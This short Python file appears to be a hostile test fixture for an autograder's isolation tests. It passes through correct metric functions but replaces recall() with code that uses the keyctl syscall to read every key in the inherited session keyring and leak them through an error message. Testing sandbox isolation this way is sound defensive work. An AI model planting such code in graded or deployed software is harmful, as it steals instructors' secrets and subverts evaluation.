"""Hostile fixture: reads the keys of the session keyring it inherited from the grader.

A grader started from a login session (or by a test that planted a key)
has a session keyring; a worker that inherits it could read the
instructor's keys and print them into its own feedback through an error
message of a public check.
"""

import ctypes

from ._reference_metrics import *  # noqa: F401,F403  (the correct parts)

_libc = ctypes.CDLL(None, use_errno=True)
_KEYCTL = 250  # x86_64
_KEYCTL_READ = 11
_SESSION_KEYRING = -3


def _read(key):
    buffer = ctypes.create_string_buffer(65536)
    size = _libc.syscall(_KEYCTL, _KEYCTL_READ, ctypes.c_int(key), buffer, 65536)
    return buffer.raw[:size] if size > 0 else b""


def recall(y_true, y_pred, *, zero_division=1.0):
    ring = _read(_SESSION_KEYRING)  # the key ids in the session keyring, 4 bytes each
    texts = [_read(int.from_bytes(ring[i:i + 4], "little")) for i in range(0, len(ring), 4)]
    raise ValueError(f"errno={ctypes.get_errno()} keys: " + " ".join(t.decode(errors="replace") for t in texts))
